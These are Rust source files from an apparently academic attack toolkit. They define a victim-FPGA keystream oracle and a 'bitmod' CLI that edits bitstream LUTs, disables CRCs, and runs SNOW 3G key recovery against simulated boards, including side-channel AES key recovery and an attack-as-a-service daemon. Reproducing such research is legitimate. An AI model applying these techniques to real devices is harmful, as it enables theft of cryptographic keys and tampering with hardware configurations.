        assert_eq!(z, vec![0xABEE9704, 0x7AC31373]);
        let err =
            oracle.keystream(&Bitstream::from_bytes(vec![0; 64]), 1).expect_err("garbage rejected");
        assert!(err.to_string().contains("refused"));
    }
}
