//! The victim-device interface the attack drives.
//!
//! Per the attack model (Section IV-A), the adversary can load a
//! (possibly modified) bitstream into the victim FPGA and collect
//! keystream words. Nothing else — no netlist, no placement, no key.

use core::fmt;

use bitstream::{Bitstream, PartialBitstream};

/// An error from the device.
#[derive(Debug, Clone)]
#[non_exhaustive]
pub enum OracleError {
    /// The device refused the bitstream (CRC failure, malformed
    /// stream, wrong size). Deterministic: retrying the same load
    /// fails the same way.
    Rejected(String),
    /// The configuration port glitched mid-load. Transient: the same
    /// bitstream can succeed on retry.
    TransientLoad(String),
    /// The configuration interface stopped responding. Transient.
    Timeout {
        /// How long the (possibly simulated) wait lasted.
        ms: u64,
    },
    /// The read returned fewer keystream words than requested.
    /// Transient: a clean retry can return the full read.
    ShortRead {
        /// Words actually returned.
        got: usize,
        /// Words requested.
        want: usize,
    },
    /// The board died permanently (power or fabric failure). Not
    /// transient — and unlike [`OracleError::Rejected`] the fault is
    /// board-local, not query-local: the same query succeeds on a
    /// healthy board, so the session should migrate rather than give
    /// up.
    BoardDead,
}

impl OracleError {
    /// Whether retrying the same query can succeed. The resilience
    /// layer retries transient errors and aborts on the rest.
    #[must_use]
    pub fn is_transient(&self) -> bool {
        matches!(
            self,
            OracleError::TransientLoad(_)
                | OracleError::Timeout { .. }
                | OracleError::ShortRead { .. }
        )
    }
}

impl fmt::Display for OracleError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            OracleError::Rejected(why) => write!(f, "device refused configuration: {why}"),
            OracleError::TransientLoad(why) => write!(f, "transient load failure: {why}"),
            OracleError::Timeout { ms } => {
                write!(f, "configuration interface timed out after {ms} ms")
            }
            OracleError::ShortRead { got, want } => {
                write!(f, "short keystream read: {got} of {want} words")
            }
            OracleError::BoardDead => {
                write!(f, "board died permanently (configuration port unresponsive)")
            }
        }
    }
}

impl std::error::Error for OracleError {}

/// *Load a bitstream, generate keystream* — the only capability the
/// attack needs from the victim device.
pub trait KeystreamOracle {
    /// Loads `bitstream` and returns `words` keystream words.
    ///
    /// # Errors
    ///
    /// Returns [`OracleError::Rejected`] when the device aborts
    /// configuration.
    fn keystream(&self, bitstream: &Bitstream, words: usize) -> Result<Vec<u32>, OracleError>;

    /// Loads every bitstream and returns `words` keystream words from
    /// each, positionally aligned with the input. The default is a
    /// serial [`keystream`](Self::keystream) loop in input order, so
    /// every existing oracle — including stateful fault models, whose
    /// draw sequence must match a serial run exactly — batches
    /// correctly without an override. Oracles with a genuinely
    /// parallel substrate (the gang-simulated [`Snow3gBoard`]
    /// (fpga_sim::Snow3gBoard)) override this with a wide
    /// implementation whose per-item results are still bit-identical
    /// to the serial loop.
    fn keystream_batch(
        &self,
        bitstreams: &[Bitstream],
        words: usize,
    ) -> Vec<Result<Vec<u32>, OracleError>> {
        bitstreams.iter().map(|bs| self.keystream(bs, words)).collect()
    }

    /// An opaque snapshot of any mutable device-side state, for
    /// crash-safe attack journals. Simulated boards persist their
    /// fault-model position here so a resumed run replays the exact
    /// fault trace an uninterrupted run would have seen; stateless
    /// oracles (ideal boards, real hardware) return `None` and resume
    /// works without it.
    fn state_snapshot(&self) -> Option<Vec<u8>> {
        None
    }

    /// Restores a [`KeystreamOracle::state_snapshot`]. The default
    /// rejects: an oracle that never produces snapshots cannot be
    /// handed one from a journal recorded against a different device.
    ///
    /// # Errors
    ///
    /// [`OracleError::Rejected`] if this oracle does not support
    /// state restoration or the snapshot does not match its
    /// configuration.
    fn restore_state(&self, _state: &[u8]) -> Result<(), OracleError> {
        Err(OracleError::Rejected("oracle does not support state restoration".into()))
    }

    /// Whether this oracle can *plan* its fault decisions ahead of
    /// executing them ([`KeystreamOracle::plan_read`] /
    /// [`KeystreamOracle::commit_reads`]). Fault-planning oracles let
    /// the resilience layer run batched noisy queries that are
    /// bit-identical to the serial loop: faults are planned for the
    /// exact load indices serial execution would use, device data is
    /// read clean in one wide pass, and only the reads serial
    /// execution performs are committed.
    fn fault_planning(&self) -> bool {
        false
    }

    /// Plans the fault decisions of the physical read `ahead` loads
    /// past the current commit point, without executing or committing
    /// anything. `None` when this oracle does not plan
    /// (`fault_planning()` is false).
    fn plan_read(&self, _ahead: u64, _words: usize) -> Option<fpga_sim::ReadPlan> {
        None
    }

    /// Commits planned reads (in load-index order), applying their
    /// fault-stat deltas as if they had been executed serially. A
    /// no-op for non-planning oracles.
    fn commit_reads(&self, _plans: &[fpga_sim::ReadPlan]) {}

    /// Loads every bitstream and reads keystream words from the
    /// *clean* substrate, bypassing fault injection and fault
    /// accounting entirely. The speculative data pass of planned
    /// batched execution; the default (no fault model to bypass) is
    /// the ordinary batch.
    fn keystream_batch_clean(
        &self,
        bitstreams: &[Bitstream],
        words: usize,
    ) -> Vec<Result<Vec<u32>, OracleError>> {
        self.keystream_batch(bitstreams, words)
    }

    /// Resolves one planned read against its clean device data:
    /// applies the plan's fault outcome (typed error, truncation,
    /// glitch masks, stuck bits) to `clean` exactly as executing the
    /// plan against the device would have. The default (non-planning
    /// oracle) passes the clean result through.
    fn resolve_plan(
        &self,
        _plan: &fpga_sim::ReadPlan,
        clean: Result<Vec<u32>, OracleError>,
        _want: usize,
    ) -> Result<Vec<u32>, OracleError> {
        clean
    }

    /// Whether this oracle's device accepts partial-reconfiguration
    /// streams ([`KeystreamOracle::keystream_partial`]). The default
    /// is `false`: callers fall back to full loads.
    fn partial_capable(&self) -> bool {
        false
    }

    /// Partial reconfiguration: applies a frame-delta to the current
    /// on-device image (established by the last successful full
    /// [`keystream`](Self::keystream) load) and returns `words`
    /// keystream words, exactly as a full load of the resulting image
    /// would. One physical load — fault models draw for it exactly as
    /// for a full load at the same load index.
    ///
    /// # Errors
    ///
    /// [`OracleError::Rejected`] when the device refuses the stream,
    /// no base image exists, or — the default — the device has no
    /// partial-reconfiguration port at all.
    fn keystream_partial(
        &self,
        _partial: &PartialBitstream,
        _words: usize,
    ) -> Result<Vec<u32>, OracleError> {
        Err(OracleError::Rejected("device has no partial-reconfiguration port".into()))
    }

    /// Batched partial reconfiguration with serial-chain semantics:
    /// lane `i`'s delta is applied to the image lane `i − 1` left
    /// behind, on the *clean* substrate (no fault injection or
    /// accounting — the partial analogue of
    /// [`keystream_batch_clean`](Self::keystream_batch_clean)). The
    /// default is the serial loop.
    fn keystream_partial_batch_clean(
        &self,
        partials: &[PartialBitstream],
        words: usize,
    ) -> Vec<Result<Vec<u32>, OracleError>> {
        partials.iter().map(|p| self.keystream_partial(p, words)).collect()
    }
}

impl KeystreamOracle for fpga_sim::Snow3gBoard {
    fn keystream(&self, bitstream: &Bitstream, words: usize) -> Result<Vec<u32>, OracleError> {
        self.generate_keystream(bitstream, words).map_err(|e| OracleError::Rejected(e.to_string()))
    }

    /// 64-lane gang simulation: up to 64 candidate configurations are
    /// evaluated bit-parallel per device pass. Lane *i* is
    /// bit-identical to a serial `keystream` call (pinned by the gang
    /// differential tests), so batching changes throughput only.
    fn keystream_batch(
        &self,
        bitstreams: &[Bitstream],
        words: usize,
    ) -> Vec<Result<Vec<u32>, OracleError>> {
        self.keystream_batch(bitstreams, words)
            .into_iter()
            .map(|r| r.map_err(|e| OracleError::Rejected(e.to_string())))
            .collect()
    }

    fn partial_capable(&self) -> bool {
        true
    }

    fn keystream_partial(
        &self,
        partial: &PartialBitstream,
        words: usize,
    ) -> Result<Vec<u32>, OracleError> {
        self.generate_keystream_partial(partial, words)
            .map_err(|e| OracleError::Rejected(e.to_string()))
    }

    /// Gang-simulated serial-chain batch: deltas apply sequentially,
    /// lanes run 64-wide.
    fn keystream_partial_batch_clean(
        &self,
        partials: &[PartialBitstream],
        words: usize,
    ) -> Vec<Result<Vec<u32>, OracleError>> {
        self.generate_keystream_partial_batch(partials, words)
            .into_iter()
            .map(|r| r.map_err(|e| OracleError::Rejected(e.to_string())))
            .collect()
    }
}

impl KeystreamOracle for fpga_sim::UnreliableBoard {
    fn keystream(&self, bitstream: &Bitstream, words: usize) -> Result<Vec<u32>, OracleError> {
        use fpga_sim::{BoardError, ProgramError};
        match self.generate_keystream(bitstream, words) {
            Ok(z) if z.len() < words => Err(OracleError::ShortRead { got: z.len(), want: words }),
            Ok(z) => Ok(z),
            Err(BoardError::Program(ProgramError::TransientLoad)) => {
                Err(OracleError::TransientLoad("configuration port glitched mid-load".into()))
            }
            Err(BoardError::Program(ProgramError::ConfigTimeout { ms })) => {
                Err(OracleError::Timeout { ms })
            }
            Err(BoardError::Program(ProgramError::BoardDead)) => Err(OracleError::BoardDead),
            Err(e) => Err(OracleError::Rejected(e.to_string())),
        }
    }

    fn state_snapshot(&self) -> Option<Vec<u8>> {
        Some(self.snapshot().to_bytes())
    }

    fn restore_state(&self, state: &[u8]) -> Result<(), OracleError> {
        let snapshot = fpga_sim::FaultSnapshot::from_bytes(state)
            .ok_or_else(|| OracleError::Rejected("malformed fault-state snapshot".into()))?;
        self.restore(&snapshot).map_err(|e| OracleError::Rejected(e.to_string()))
    }

    fn fault_planning(&self) -> bool {
        true
    }

    fn plan_read(&self, ahead: u64, words: usize) -> Option<fpga_sim::ReadPlan> {
        Some(self.plan_read(ahead, words))
    }

    fn commit_reads(&self, plans: &[fpga_sim::ReadPlan]) {
        self.commit_plans(plans);
    }

    /// The clean substrate is the inner ideal board's 64-lane gang
    /// batch: no faults, no fault accounting.
    fn keystream_batch_clean(
        &self,
        bitstreams: &[Bitstream],
        words: usize,
    ) -> Vec<Result<Vec<u32>, OracleError>> {
        self.inner()
            .keystream_batch(bitstreams, words)
            .into_iter()
            .map(|r| r.map_err(|e| OracleError::Rejected(e.to_string())))
            .collect()
    }

    fn partial_capable(&self) -> bool {
        true
    }

    /// One physical load under the identical fault model: the partial
    /// load at load index `q` draws exactly the plan a full load at
    /// `q` would, so a run's fault trace is invariant under switching
    /// load modes.
    fn keystream_partial(
        &self,
        partial: &PartialBitstream,
        words: usize,
    ) -> Result<Vec<u32>, OracleError> {
        use fpga_sim::{BoardError, ProgramError};
        match self.generate_keystream_partial(partial, words) {
            Ok(z) if z.len() < words => Err(OracleError::ShortRead { got: z.len(), want: words }),
            Ok(z) => Ok(z),
            Err(BoardError::Program(ProgramError::TransientLoad)) => {
                Err(OracleError::TransientLoad("configuration port glitched mid-load".into()))
            }
            Err(BoardError::Program(ProgramError::ConfigTimeout { ms })) => {
                Err(OracleError::Timeout { ms })
            }
            Err(BoardError::Program(ProgramError::BoardDead)) => Err(OracleError::BoardDead),
            Err(e) => Err(OracleError::Rejected(e.to_string())),
        }
    }

    /// Clean substrate: the inner ideal board's gang-simulated
    /// serial-chain partial batch.
    fn keystream_partial_batch_clean(
        &self,
        partials: &[PartialBitstream],
        words: usize,
    ) -> Vec<Result<Vec<u32>, OracleError>> {
        self.inner()
            .generate_keystream_partial_batch(partials, words)
            .into_iter()
            .map(|r| r.map_err(|e| OracleError::Rejected(e.to_string())))
            .collect()
    }

    fn resolve_plan(
        &self,
        plan: &fpga_sim::ReadPlan,
        clean: Result<Vec<u32>, OracleError>,
        want: usize,
    ) -> Result<Vec<u32>, OracleError> {
        use fpga_sim::ReadOutcome;
        match &plan.outcome {
            ReadOutcome::TransientLoad => {
                Err(OracleError::TransientLoad("configuration port glitched mid-load".into()))
            }
            ReadOutcome::Timeout { ms } => Err(OracleError::Timeout { ms: *ms }),
            ReadOutcome::Dead => Err(OracleError::BoardDead),
            ReadOutcome::Read { keep, glitch, .. } => {
                let mut z = clean?;
                z.truncate(*keep);
                let z = self.corrupt(z, glitch);
                if z.len() < want {
                    Err(OracleError::ShortRead { got: z.len(), want })
                } else {
                    Ok(z)
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use fpga_sim::{ImplementOptions, Snow3gBoard};
    use netlist::snow3g_circuit::Snow3gCircuitConfig;
    use snow3g::vectors::{TEST_SET_1_IV, TEST_SET_1_KEY};

    #[test]
    fn board_implements_oracle() {
        let board = Snow3gBoard::build(
            Snow3gCircuitConfig::unprotected(TEST_SET_1_KEY, TEST_SET_1_IV),
            &ImplementOptions::default(),
        )
        .expect("board");
        let oracle: &dyn KeystreamOracle = &board;
        let z = oracle.keystream(&board.extract_bitstream(), 2).expect("runs");
        assert_eq!(z, vec![0xABEE9704, 0x7AC31373]);
        let err =
            oracle.keystream(&Bitstream::from_bytes(vec![0; 64]), 1).expect_err("garbage rejected");
        assert!(err.to_string().contains("refused"));
    }
}
