//! `bitmod` — bitstream inspection and modification tool.
//!
//! ```text
//! bitmod findlut <file> <name-or-formula> [--stride N] [--json]
//! bitmod table2  <file> [--stride N] [--json]
//! bitmod xorscan <file> [--stride N] [--window A..B]
//! bitmod packets <file>
//! bitmod crc     <file> (--disable | --recompute) [-o OUT]
//! bitmod diff    <file> <other-file>
//! bitmod attack  [--noisy] [--seed N] [--glitch P] [--load-fail P]
//!                [--votes N] [--budget N] [--stride N]
//!                [--journal PATH] [--resume] [--trace PATH] [--batch]
//! ```
//!
//! `attack` builds the simulated SNOW 3G victim board (ETSI Test
//! Set 1) and runs the full key-recovery pipeline against it. With
//! `--noisy` the board injects seeded faults (per-bit keystream
//! glitches, transient load failures, timeouts, truncated reads) and
//! the attack survives them through the resilience layer; `--budget`
//! caps the number of physical device configurations, and hitting it
//! prints a structured partial result. With `--journal` the attack
//! checkpoints to a crash-safe journal after every completed work
//! item, and `--resume` continues a killed or budget-cut run from
//! that journal, replaying the exact query trace an uninterrupted
//! run would have produced. With `--trace` the attack streams
//! telemetry events (NDJSON, one object per line: phase spans, oracle
//! queries, journal writes, board fault accounting) to the given path
//! and appends a summary table — recording is inert, so the traced
//! run is bit-identical to an untraced one. With `--batch` the attack
//! issues up to 64 oracle queries per call, evaluated bit-parallel by
//! the 64-lane gang simulator: the recovered key, per-query
//! keystreams and load accounting are identical to a serial run, only
//! faster.
//!
//! Functions are catalogue names (`f2`, `m0b`, ...) or formulas over
//! `a1..a6`, e.g. `"(a1^a2^a3) a4 a5 ~a6"`. With `--json`, `findlut`
//! and `table2` emit one stable JSON record per hit instead of the
//! human-readable report (see [`cli::lut_hit_json`]).

use std::process::ExitCode;

use bitmod::cli;
use bitstream::Bitstream;

fn run_attack(rest: &[String]) -> Result<(), Box<dyn std::error::Error>> {
    let mut opts = cli::AttackOptions::default();
    let mut it = rest.iter();
    while let Some(arg) = it.next() {
        match arg.as_str() {
            "--noisy" => opts.noisy = true,
            "--seed" => opts.seed = it.next().ok_or("--seed needs a value")?.parse()?,
            "--glitch" => opts.glitch = it.next().ok_or("--glitch needs a value")?.parse()?,
            "--load-fail" => {
                opts.load_fail = it.next().ok_or("--load-fail needs a value")?.parse()?;
            }
            "--votes" => opts.votes = it.next().ok_or("--votes needs a value")?.parse()?,
            "--budget" => opts.budget = Some(it.next().ok_or("--budget needs a value")?.parse()?),
            "--stride" => opts.stride = it.next().ok_or("--stride needs a value")?.parse()?,
            "--journal" => {
                opts.journal = Some(it.next().ok_or("--journal needs a path")?.into());
            }
            "--resume" => opts.resume = true,
            "--trace" => opts.trace = Some(it.next().ok_or("--trace needs a path")?.into()),
            "--batch" => opts.batch = true,
            flag => return Err(format!("unknown attack option '{flag}'").into()),
        }
    }
    print!("{}", cli::cmd_attack(&opts)?);
    Ok(())
}

fn run() -> Result<(), Box<dyn std::error::Error>> {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let usage = "bitmod (findlut|table2|xorscan|packets|crc|diff|attack) <file> [...]";
    let (cmd, rest) = args.split_first().ok_or(usage)?;
    if cmd == "attack" {
        return run_attack(rest);
    }
    let (file, rest) = rest.split_first().ok_or(usage)?;
    let bs = Bitstream::from_bytes(std::fs::read(file)?);

    let mut stride = cli::default_stride();
    let mut window: Option<(usize, usize)> = None;
    let mut json = false;
    let mut disable = false;
    let mut recompute = false;
    let mut out_path: Option<String> = None;
    let mut positional: Vec<&String> = Vec::new();
    let mut it = rest.iter();
    while let Some(arg) = it.next() {
        match arg.as_str() {
            "--stride" => {
                stride = it.next().ok_or("--stride needs a value")?.parse()?;
            }
            "--window" => {
                let spec = it.next().ok_or("--window needs A..B")?;
                let (a, b) = spec.split_once("..").ok_or("--window needs A..B")?;
                window = Some((a.parse()?, b.parse()?));
            }
            "--json" => json = true,
            "--disable" => disable = true,
            "--recompute" => recompute = true,
            "-o" => out_path = Some(it.next().ok_or("-o needs a path")?.clone()),
            flag if flag.starts_with('-') => {
                return Err(format!("unknown option '{flag}'; {usage}").into());
            }
            _ => positional.push(arg),
        }
    }

    match cmd.as_str() {
        "findlut" => {
            let f = positional.first().ok_or("findlut needs a function")?;
            print!("{}", cli::cmd_findlut(&bs, f, stride, json)?);
        }
        "table2" => print!("{}", cli::cmd_table2(&bs, stride, json)?),
        "xorscan" => print!("{}", cli::cmd_xorscan(&bs, stride, window)?),
        "packets" => print!("{}", cli::cmd_packets(&bs)),
        "diff" => {
            let other = positional.first().ok_or("diff needs a second file")?;
            let b = Bitstream::from_bytes(std::fs::read(other)?);
            print!("{}", cli::cmd_diff(&bs, &b));
        }
        "crc" => {
            if disable == recompute {
                return Err("crc needs exactly one of --disable / --recompute".into());
            }
            let (fixed, msg) = cli::cmd_crc(&bs, disable);
            println!("{msg}");
            let out = out_path.unwrap_or_else(|| format!("{file}.out"));
            std::fs::write(&out, fixed.as_bytes())?;
            println!("wrote {out}");
        }
        other => return Err(format!("unknown command '{other}'; {usage}").into()),
    }
    Ok(())
}

fn main() -> ExitCode {
    match run() {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("bitmod: {e}");
            ExitCode::FAILURE
        }
    }
}
