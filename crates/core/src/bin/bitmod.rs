//! `bitmod` — bitstream inspection and modification tool.
//!
//! ```text
//! bitmod findlut <file> <name-or-formula> [--stride N] [--json]
//! bitmod table2  <file> [--stride N] [--json]
//! bitmod xorscan <file> [--stride N] [--window A..B]
//! bitmod packets <file>
//! bitmod crc     <file> (--disable | --recompute) [-o OUT]
//! bitmod diff    <file> <other-file>
//! bitmod attack  [--noisy] [--seed N] [--glitch P] [--load-fail P]
//!                [--burst E,X,G] [--drift P] [--stuck MASK] [--adaptive]
//!                [--votes N] [--budget N] [--stride N] [--deadline-ms N]
//!                [--journal PATH] [--resume] [--trace PATH] [--batch]
//!                [--partial] [--encrypted] [--sca-traces N]
//! bitmod serve   [--addr ADDR] [--root DIR] [--workers N]
//!                [--idle-timeout-ms N] [--chaos-seed N] [--chaos-drop P]
//!                [--chaos-partial P] [--chaos-garble P] [--chaos-delay P]
//!                [--chaos-dup P]
//! bitmod submit  [--addr ADDR] [client flags] [attack spec flags...]
//! bitmod status  [--addr ADDR] [client flags] [ID]
//! bitmod tail    [--addr ADDR] [client flags] ID
//! bitmod cancel  [--addr ADDR] [client flags] ID
//! bitmod shutdown [--addr ADDR] [client flags]
//! ```
//!
//! Client flags (every client subcommand): `--connect-timeout MS`
//! (default 5000), `--read-timeout MS` (default 30000) and
//! `--retries N` (default 2) — the deadlines and transport-failure
//! retry budget behind every request. A dead daemon surfaces as a
//! typed timeout instead of a hang; a flaky wire is retried with
//! exponential, jittered backoff, and retried submits carry an
//! idempotency token so they never double-enqueue.
//!
//! `attack` builds the simulated SNOW 3G victim board (ETSI Test
//! Set 1) and runs the full key-recovery pipeline against it. With
//! `--noisy` the board injects seeded faults (per-bit keystream
//! glitches, transient load failures, timeouts, truncated reads) and
//! the attack survives them through the resilience layer; `--budget`
//! caps the number of physical device configurations, and hitting it
//! prints a structured partial result. With `--journal` the attack
//! checkpoints to a crash-safe journal after every completed work
//! item, and `--resume` continues a killed or budget-cut run from
//! that journal, replaying the exact query trace an uninterrupted
//! run would have produced. With `--trace` the attack streams
//! telemetry events (NDJSON, one object per line: phase spans, oracle
//! queries, journal writes, board fault accounting) to the given path
//! and appends a summary table — recording is inert, so the traced
//! run is bit-identical to an untraced one. With `--batch` the attack
//! issues up to 64 oracle queries per call, evaluated bit-parallel by
//! the 64-lane gang simulator: the recovered key, per-query
//! keystreams and load accounting are identical to a serial run, only
//! faster. With `--partial` each candidate ships as a frame-delta
//! partial-reconfiguration stream against the image the previous load
//! left on the device — the first load is full, every later one
//! writes only the touched frames (rollbacks ride the next delta),
//! and candidates the forge cannot express fall back to full loads,
//! so the recovered key and logical query trace are identical to a
//! full-load run while configuration traffic drops by well over an
//! order of magnitude. With `--encrypted` the victim's bitstream sits in flash as
//! the Fig. 1 secure container (AES-256-CBC + HMAC-SHA-256): the
//! attack first spends `--sca-traces` power traces recovering the
//! on-chip AES key, then runs the whole pipeline over the ciphertext
//! through the seekable CBC patch oracle — each of the ~545 candidate
//! loads re-encrypts only the CBC blocks its LUT edit touches. The
//! recovered key, query trace and load accounting are identical to
//! the plaintext run; an insufficient trace budget is a structured
//! partial result, resumable by re-running with a larger budget.
//! Every flag combination is validated up front through the
//! session-spec builder.
//!
//! `serve` runs the attack-as-a-service daemon: a work-stealing fleet
//! of workers over a session store rooted at `--root`, behind a
//! line-protocol server on `--addr` (a TCP address, or a Unix socket
//! path / `unix:PATH`). `--idle-timeout-ms` closes connections whose
//! reads stall past the deadline, and the `--chaos-*` flags wrap every
//! accepted connection in the seeded fault injector (drop, partial
//! write, garble, delay, duplicate — for soak-testing clients against
//! a hostile wire; rates are probabilities per I/O operation). `submit`, `status`, `tail`, `cancel` and
//! `shutdown` are the thin client: `submit` takes the same spec flags
//! as `attack` (minus the local-only `--journal`/`--resume`/`--trace`
//! — the server owns each session's journal and trace inside its
//! root) and prints the session id; `tail` streams the session's live
//! NDJSON telemetry until it is terminal. `status` with no id lists
//! every session plus the fleet's board-health report: one line per
//! worker board (healthy/suspect/dead with its injected-fault rate)
//! and the observed-vs-injected fault gap — faults the boards
//! injected that the attack never saw because voting and retries
//! absorbed them.
//!
//! Functions are catalogue names (`f2`, `m0b`, ...) or formulas over
//! `a1..a6`, e.g. `"(a1^a2^a3) a4 a5 ~a6"`. With `--json`, `findlut`
//! and `table2` emit one stable JSON record per hit instead of the
//! human-readable report (see [`cli::lut_hit_json`]).

use std::process::ExitCode;

use bitmod::cli;
use bitmod::fleet::{
    wire, ClientConfig, Endpoint, Fleet, FleetClient, FleetConfig, FleetServer, SessionSpec,
};
use bitstream::Bitstream;

/// Parses the attack/submit spec flags through the validating
/// builder. `local` admits the local-only flags
/// (`--journal`/`--resume`/`--trace`); submissions reject them with a
/// pointer at the server-owned layout.
fn parse_spec(rest: &[String], local: bool) -> Result<SessionSpec, Box<dyn std::error::Error>> {
    let mut b = SessionSpec::builder();
    let mut it = rest.iter();
    while let Some(arg) = it.next() {
        b = match arg.as_str() {
            "--noisy" => b.noisy(true),
            "--seed" => b.seed(it.next().ok_or("--seed needs a value")?.parse()?),
            "--glitch" => b.glitch(it.next().ok_or("--glitch needs a value")?.parse()?),
            "--load-fail" => b.load_fail(it.next().ok_or("--load-fail needs a value")?.parse()?),
            "--votes" => b.votes(it.next().ok_or("--votes needs a value")?.parse()?),
            "--budget" => b.budget(it.next().ok_or("--budget needs a value")?.parse()?),
            "--stride" => b.stride(it.next().ok_or("--stride needs a value")?.parse()?),
            "--deadline-ms" => {
                b.deadline_ms(it.next().ok_or("--deadline-ms needs a value")?.parse()?)
            }
            "--adaptive" => b.adaptive(true),
            "--burst" => {
                let spec = it.next().ok_or("--burst needs ENTER,EXIT,GLITCH")?;
                let mut parts = spec.split(',');
                let mut rate = || -> Result<f64, Box<dyn std::error::Error>> {
                    Ok(parts.next().ok_or("--burst needs ENTER,EXIT,GLITCH")?.parse()?)
                };
                let (enter, exit, glitch) = (rate()?, rate()?, rate()?);
                b.burst(enter, exit, glitch)
            }
            "--drift" => b.drift(it.next().ok_or("--drift needs a value")?.parse()?),
            "--stuck" => {
                let mask = it.next().ok_or("--stuck needs a hex mask")?;
                let digits = mask.strip_prefix("0x").unwrap_or(mask);
                b.stuck(u32::from_str_radix(digits, 16)?)
            }
            "--batch" => b.batch(fpga_sim::GANG_LANES),
            "--partial" => b.partial(true),
            "--encrypted" => b.encrypted(true),
            "--sca-traces" => b.sca_traces(it.next().ok_or("--sca-traces needs a value")?.parse()?),
            "--journal" if local => b.journal(it.next().ok_or("--journal needs a path")?),
            "--resume" if local => b.resume(true),
            "--trace" if local => b.trace(it.next().ok_or("--trace needs a path")?),
            "--journal" | "--resume" | "--trace" => {
                return Err(format!(
                    "'{arg}' is local-only; the server journals and traces every \
                     session inside its --root"
                )
                .into());
            }
            flag => return Err(format!("unknown attack option '{flag}'").into()),
        };
    }
    Ok(b.build()?)
}

fn run_attack(rest: &[String]) -> Result<(), Box<dyn std::error::Error>> {
    let spec = parse_spec(rest, true)?;
    print!("{}", cli::cmd_attack(&spec)?);
    Ok(())
}

fn run_serve(rest: &[String]) -> Result<(), Box<dyn std::error::Error>> {
    let mut addr = "127.0.0.1:7545".to_string();
    let mut root = ".bitmod-fleet".to_string();
    let mut workers: Option<usize> = None;
    let mut idle_timeout: Option<u64> = None;
    let mut chaos_seed: u64 = 0;
    let (mut drop, mut partial, mut garble, mut delay, mut dup) = (0.0, 0.0, 0.0, 0.0, 0.0);
    let mut it = rest.iter();
    while let Some(arg) = it.next() {
        match arg.as_str() {
            "--addr" => addr = it.next().ok_or("--addr needs a value")?.clone(),
            "--root" => root = it.next().ok_or("--root needs a path")?.clone(),
            "--workers" => workers = Some(it.next().ok_or("--workers needs a value")?.parse()?),
            "--idle-timeout-ms" => {
                idle_timeout = Some(it.next().ok_or("--idle-timeout-ms needs a value")?.parse()?);
            }
            "--chaos-seed" => {
                chaos_seed = it.next().ok_or("--chaos-seed needs a value")?.parse()?;
            }
            "--chaos-drop" => drop = it.next().ok_or("--chaos-drop needs a value")?.parse()?,
            "--chaos-partial" => {
                partial = it.next().ok_or("--chaos-partial needs a value")?.parse()?;
            }
            "--chaos-garble" => {
                garble = it.next().ok_or("--chaos-garble needs a value")?.parse()?;
            }
            "--chaos-delay" => delay = it.next().ok_or("--chaos-delay needs a value")?.parse()?,
            "--chaos-dup" => dup = it.next().ok_or("--chaos-dup needs a value")?.parse()?,
            flag => return Err(format!("unknown serve option '{flag}'").into()),
        }
    }
    let mut config = FleetConfig::new(root);
    if let Some(n) = workers {
        config = config.workers(n);
    }
    let workers = config.worker_count();
    let fleet = Fleet::start(config)?;
    let mut server = FleetServer::bind(&Endpoint::parse(&addr), fleet)?;
    if let Some(ms) = idle_timeout {
        server = server.with_read_timeout(std::time::Duration::from_millis(ms));
    }
    let profile = bitmod::fleet::ChaosProfile::new(chaos_seed)
        .with_drop(drop)
        .with_partial(partial)
        .with_garble(garble)
        .with_delay(delay)
        .with_dup(dup);
    if profile.is_active() {
        server = server.with_chaos(profile);
        println!("chaos wire enabled (seed {chaos_seed})");
    }
    println!(
        "listening on {} ({} workers, root {})",
        server.endpoint(),
        workers,
        server.fleet().root().display()
    );
    server.run();
    Ok(())
}

/// Splits `--addr` and the client transport flags
/// (`--connect-timeout MS`, `--read-timeout MS`, `--retries N`) off a
/// client subcommand's arguments; everything else is returned for the
/// subcommand to parse.
fn split_addr(
    rest: &[String],
) -> Result<(Endpoint, ClientConfig, Vec<String>), Box<dyn std::error::Error>> {
    let mut addr = "127.0.0.1:7545".to_string();
    let mut config = ClientConfig::default();
    let mut remainder = Vec::new();
    let mut it = rest.iter();
    while let Some(arg) = it.next() {
        match arg.as_str() {
            "--addr" => addr = it.next().ok_or("--addr needs a value")?.clone(),
            "--connect-timeout" => {
                let ms: u64 = it.next().ok_or("--connect-timeout needs milliseconds")?.parse()?;
                config = config.with_connect_timeout(std::time::Duration::from_millis(ms));
            }
            "--read-timeout" => {
                let ms: u64 = it.next().ok_or("--read-timeout needs milliseconds")?.parse()?;
                config = config.with_read_timeout(std::time::Duration::from_millis(ms));
            }
            "--retries" => {
                config = config.with_retries(it.next().ok_or("--retries needs a value")?.parse()?);
            }
            _ => remainder.push(arg.clone()),
        }
    }
    Ok((Endpoint::parse(&addr), config, remainder))
}

/// Renders the transport-health line under `bitmod status`: the
/// server's wire counters (connections, rejected frames, reconnects,
/// deduped submits, reaped leases, chaos faults, torn journals)
/// pulled out of the counters response.
fn transport_health(counters: &str) -> String {
    let field = |name: &str| wire::number_field(counters, name).unwrap_or(0);
    format!(
        "transport: {} connections, {} reconnects, {} frames rejected, \
         {} submits deduped, {} leases reaped, {} idle closed, \
         {} chaos faults, {} torn journals discarded",
        field("fleet.net.connections"),
        field("fleet.net.reconnects"),
        field("fleet.net.frames_rejected"),
        field("fleet.net.submit_deduped"),
        field("fleet.net.leases_reaped"),
        field("fleet.net.idle_closed"),
        field("fleet.net.chaos_faults"),
        field("journal.torn_discarded"),
    )
}

fn run_client(cmd: &str, rest: &[String]) -> Result<(), Box<dyn std::error::Error>> {
    let (endpoint, config, rest) = split_addr(rest)?;
    let mut client = FleetClient::connect_with(&endpoint, config)?;
    match cmd {
        "submit" => {
            let spec = parse_spec(&rest, false)?;
            println!("{}", client.submit(&spec)?);
        }
        "status" => match rest.first() {
            Some(id) => println!("{}", client.status(id)?),
            None => {
                // The fleet-wide view: every session, then board
                // health (quarantined boards show up as "dead" and
                // the observed-vs-injected fault gap), then the
                // wire's own health.
                println!("{}", client.list()?);
                println!("{}", client.health()?);
                println!("{}", transport_health(&client.counters()?));
            }
        },
        "tail" => {
            let id = rest.first().ok_or("tail needs a session id")?;
            let state = client.tail(id, &mut std::io::stdout())?;
            println!("session {id}: {state}");
        }
        "cancel" => {
            let id = rest.first().ok_or("cancel needs a session id")?;
            client.cancel(id)?;
            println!("cancelled {id}");
        }
        "shutdown" => {
            client.shutdown()?;
            println!("server shutting down");
